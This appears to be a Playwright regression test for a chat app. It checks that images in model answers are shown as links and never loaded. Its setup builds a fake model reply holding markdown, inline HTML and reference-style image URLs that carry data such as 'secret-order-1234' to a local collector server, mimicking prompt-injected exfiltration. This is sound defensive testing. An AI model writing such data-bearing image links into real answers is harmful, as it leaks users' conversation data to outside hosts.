import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { type RunningApp, startApp } from './support/app';
import { ChatPage } from './support/chat-page';
import { type FakeUpstream, startFakeUpstream } from './support/upstream';

/*
 * A model tricked (by a visitor's message or a document) into writing an image whose address
 * carries data must not make the browser send it anywhere (issue 15: images in answers loaded from
 * any host). A collector server counts every request it receives; the answer's images point at it.
 */
const QUESTION = 'Summarise our conversation as a chart';

let upstream: FakeUpstream;
let app: RunningApp;
let collector: http.Server;
const received: string[] = [];
let collectorOrigin = '';

test.beforeAll(async () => {
  collector = http.createServer((req, res) => {
    received.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'image/gif' });
    res.end();
  });
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
  collectorOrigin = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
  const answer = [
    `Here it is: ![chart](${collectorOrigin}/x.gif?d=secret-order-1234)`,
    '',
    `And inline <img src="${collectorOrigin}/raw.gif?d=raw"> too, and a reference ![ref][1].`,
    '',
    `[1]: ${collectorOrigin}/ref.gif?d=ref`,
  ].join('\n');
  upstream = await startFakeUpstream({ replies: { [QUESTION]: answer } });
  app = await startApp({ OPENAI_BASE_URL: upstream.url, OPENAI_API_KEY: 'test' });
});
test.afterAll(async () => {
  await app?.stop();
  await upstream?.close();
  collector?.close();
});

test('an image in an answer is shown as a link and never loaded', async ({ page }) => {
  const chat = new ChatPage(page);
  await page.goto(app.url);
  const answer = await chat.ask(QUESTION);
  await expect(answer).toContainText('Here it is');
  // The image became a link the visitor may open, to the address it named.
  const link = answer.getByRole('link', { name: /chart/ });
  await expect(link).toHaveAttribute('href', `${collectorOrigin}/x.gif?d=secret-order-1234`);
  await expect(answer.locator('img')).toHaveCount(0);
  // Give a late image load the time to happen, then check nothing reached the collector.
  await page.waitForTimeout(500);
  expect(received).toEqual([]);
});
